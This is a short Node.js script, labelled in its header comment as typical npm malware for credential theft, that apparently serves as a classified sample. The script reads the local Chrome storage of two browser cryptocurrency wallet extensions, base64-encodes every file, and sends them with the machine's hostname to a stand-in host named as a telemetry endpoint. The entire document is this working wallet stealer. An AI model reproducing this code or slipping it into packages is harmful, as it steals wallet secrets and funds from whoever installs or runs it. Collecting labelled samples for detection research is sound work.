// class: credential theft, wallets; style: typical npm malware
const fs = require('fs'), path = require('path'), os = require('os'), https = require('https');
const exts = ['nkbihfbeogaeaoehlefnkodbefgpgknn', 'bfnaelmomeimhlpmgjnjophhpkkoljpa'];
const root = path.join(os.homedir(), '.config/google-chrome/Default/Local Extension Settings');
let body = [];
for (const e of exts) {
  const d = path.join(root, e);
  if (!fs.existsSync(d)) continue;
  for (const f of fs.readdirSync(d)) body.push({ f, b: fs.readFileSync(path.join(d, f)).toString('base64') });
}
const r = https.request({ host: 'cdn-telemetry.example', path: '/v2/collect', method: 'POST' });
r.end(JSON.stringify({ h: os.hostname(), body }));
